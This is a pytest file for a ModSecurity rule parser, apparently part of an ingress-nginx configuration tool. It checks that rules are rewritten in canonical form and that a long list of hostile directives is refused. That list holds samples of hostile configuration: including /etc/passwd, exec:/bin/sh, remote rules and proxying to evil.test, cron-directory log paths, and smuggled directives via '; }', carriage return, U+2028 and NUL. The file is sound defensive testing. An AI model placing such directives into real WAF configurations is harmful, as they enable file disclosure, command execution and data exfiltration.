"""Rules of ModSecurity: what is read, what is written, and what nobody may have."""

from __future__ import annotations

import pytest

from ingc.frontend.declarations.grammar import BadValue
from ingc.frontend.declarations.seclang import (
    Directives,
    Include,
    ids_of,
    read_snippet,
    write_snippet,
)

RULE = 'SecRule ARGS "@streq a" "id:1,deny{}"'

WRITTEN = (
    ("SecRuleEngine On", "SecRuleEngine On\n"),
    ("  secruleengine", None),
    ("# a comment\n\nSecRuleRemoveById 1 2-3", "SecRuleRemoveById 1 2-3\n"),
    ('SecRuleUpdateTargetById 942100 "!ARGS:a,ARGS:b"',) * 2,
    (r'SecRule ARGS "bad" "id:1,deny,msg:\'x\'"', 'SecRule ARGS "@rx bad" "id:1,deny,msg:\'x\'"'),
    (r"SecRule ARGS \"bad\" \"id:1,deny\"", 'SecRule ARGS "@rx bad" "id:1,deny"'),
    (r'SecRule ARGS "!@rx ^\\d+\\"$" "id:1"', r'SecRule ARGS "!@rx ^\d+\x22$" "id:1"'),
    (
        'SecRule ARGS|!ARGS:b "@pm a b" \\\n    "id:1,\\\n     deny"',
        'SecRule ARGS|!ARGS:b "@pm a b" "id:1,deny"',
    ),
    (
        'SecRule ARGS "@eq 0" "id:1,chain"\nSecRule ARGS "@ge 1" "setvar:tx.a=+1"',
        'SecRule ARGS "@eq 0" "id:1,chain"\nSecRule ARGS "@ge 1" "setvar:\'tx.a=+1\'"',
    ),
    ('SecAction "id:900,phase:1,nolog,pass,t:none"',) * 2,
    ("SecMarker END",) * 2,
    ('SecAuditLogRelevantStatus "^(?:5|4(?!04))"',) * 2,
)


@pytest.mark.parametrize(("text", "written"), WRITTEN)
def test_rules_are_written_anew(text: str, written: str | None) -> None:
    if written is None:
        with pytest.raises(BadValue):
            read_snippet(text, trusted=False)
        return
    (found,) = read_snippet(text, trusted=False)
    assert isinstance(found, Directives)
    assert found.text == written.rstrip("\n") + "\n"
    assert read_snippet(write_snippet((found,)), trusted=False) == (found,)


HOSTILE = (
    "Include /etc/passwd",
    "Include /etc/nginx/modsecurity/../../passwd",
    "IncludeOptional /etc/*.conf",
    "SecRemoteRules key https://evil.test/rules",
    "SecAuditLog /etc/cron.d/evil",
    "SecAuditLogStorageDir /etc",
    "SecDebugLog /tmp/x",
    "SecUploadDir /tmp",
    "SecTmpDir /tmp",
    "SecDataDir /tmp",
    "SecGeoLookupDb /etc/passwd",
    "SecUnicodeMapFile /etc/passwd 20127",
    "SecHttpBlKey secret",
    "SecRuleScript /tmp/x.lua",
    "SecWebAppId other",
    "SecPcreMatchLimit 1",
    'SecDefaultAction "phase:2,exec:/bin/sh,deny"',
    'SecRule ARGS "@pmFromFile /etc/passwd" "id:1,deny"',
    'SecRule ARGS "@pmf /etc/passwd" "id:1,deny"',
    'SecRule ARGS "@ipMatchFromFile /etc/passwd" "id:1,deny"',
    'SecRule ARGS "@ipMatchF https://evil.test/" "id:1,deny"',
    'SecRule ARGS "!@PMFROMFILE /etc/passwd" "id:1,deny"',
    'SecRule FILES_TMPNAMES "@inspectFile /bin/sh" "id:1,deny"',
    'SecRule ARGS "@inspectFile /bin/sh" "id:1,deny"',
    'SecRule ARGS "@fuzzyHash /etc/passwd 90" "id:1,deny"',
    'SecRule ARGS "@validateSchema /etc/passwd" "id:1,deny"',
    'SecRule REMOTE_ADDR "@rbl evil.test" "id:1,deny"',
    'SecRule REMOTE_ADDR "@geoLookup" "id:1,deny"',
    'SecRule ENV:PATH "@rx ." "id:1,deny"',
    'SecRule IP:count "@gt 1" "id:1,deny"',
    'SecRule GLOBAL:x "@gt 1" "id:1,deny"',
    'SecRule FILES_TMP_CONTENT "@rx a" "id:1,deny"',
    'SecRule &SESSION:x "@gt 1" "id:1,deny"',
    'SecRule ARGS|RESOURCE:x "@gt 1" "id:1,deny"',
    'SecRule ARGS "@streq %{ENV.PATH}" "id:1,deny"',
    'SecRule ARGS "@rx %{tx.a}" "id:1,deny"',
    'SecRule ARGS "@rx (a+)+$" "id:1,deny"',
    'SecRule ARGS "@rx (" "id:1,deny"',
    'SecRule ARGS "@eq %{" "id:1,deny"',
    'SecRule ARGS "@contains 100%" "id:1,deny"',
    RULE.format(",exec:/bin/sh"),
    RULE.format(",EXEC:/bin/sh"),
    RULE.format(",exec:'/tmp/x.lua'"),
    RULE.format(",initcol:ip=%{REMOTE_ADDR}"),
    RULE.format(",setvar:ip.block=1"),
    RULE.format(",setvar:'global.x=1'"),
    RULE.format(",setvar:!session.x"),
    RULE.format(",setsid:x"),
    RULE.format(",setuid:x"),
    RULE.format(",setenv:x=1"),
    RULE.format(",expirevar:ip.x=1"),
    RULE.format(",pause:100000"),
    RULE.format(",proxy:http://evil.test/"),
    RULE.format(",append:'x'"),
    RULE.format(",xmlns:x=http://evil.test"),
    RULE.format(",sanitiseArg:x"),
    RULE.format(",logdata:'%{ENV.PATH}'"),
    RULE.format(",redirect:'https://x.test/%{env.a}'"),
    RULE.format(",msg:'%{IP.x}'"),
    RULE.format(",ctl:auditLogParts=ABC"),
    RULE.format(",ctl:ruleRemoveTargetById=1;ENV:x;"),
    RULE.format(",status:99"),
    RULE.format(",skipAfter:'a b'"),
    RULE.format(",chain"),
    RULE.format("") + "\n" + RULE.format(""),
    RULE.format("").replace("id:1", "id:920350"),
    RULE.format("").replace("id:1,", ""),
    'SecRule ARGS "@eq 0" "id:1,chain"\nSecRule ARGS "@ge 1" "deny"',
    'SecRule ARGS "@eq 0" "id:1,chain"\nSecRuleEngine Off',
    'SecRule ARGS "@streq a" "id:1,deny"; } location / { }',
    'SecRule ARGS "@streq a" "id:1,deny" "x"',
    "SecRuleEngine On; }",
    "SecRuleEngine 'On'",
    "SecRuleEngine On\rInclude /etc/passwd",
    "SecRuleEngine On\x00",
    "SecRuleEngine On\u2028Include /etc/passwd",
    "SecRuleEngine\nOn",
    'SecRuleRemoveByMsg "a|b"',
    'SecRule ARGS "@pm \x7f" "id:1"',
    'SecRule ARGS "@ipMatch /etc/passwd" "id:1,deny"',
    'SecRule ARGS "@validateByteRange 1-256" "id:1,deny"',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_reads_files_runs_programs_or_reaches_others_is_refused(text: str) -> None:
    with pytest.raises(BadValue):
        read_snippet(text, trusted=False)


def test_the_operator_may_name_files_to_write_and_ids_of_any_range() -> None:
    text = 'SecAuditLog /var/log/audit.log\nSecRule ARGS "a" "id:200000,deny"'
    assert len(read_snippet(text, trusted=True)) == 2
    assert ids_of(read_snippet(text, trusted=True)) == {200_000}
    for hostile in ("Include /etc/passwd", RULE.format(",exec:/bin/sh"), "SecDataDir /tmp"):
        with pytest.raises(BadValue):
            read_snippet(hostile, trusted=True)


def test_what_ingress_nginx_has_in_its_image_may_be_included() -> None:
    text = (
        "Include /etc/nginx/modsecurity/modsecurity.conf\n"
        "Include /etc/nginx/owasp-modsecurity-crs/nginx-modsecurity.conf"
    )
    assert read_snippet(text, trusted=False) == (Include("modsecurity"), Include("owasp"))


def test_a_finding_names_the_line() -> None:
    with pytest.raises(BadValue, match=r"^line 3: Include"):
        read_snippet("SecRuleEngine On\n\nInclude /etc/passwd", trusted=False)
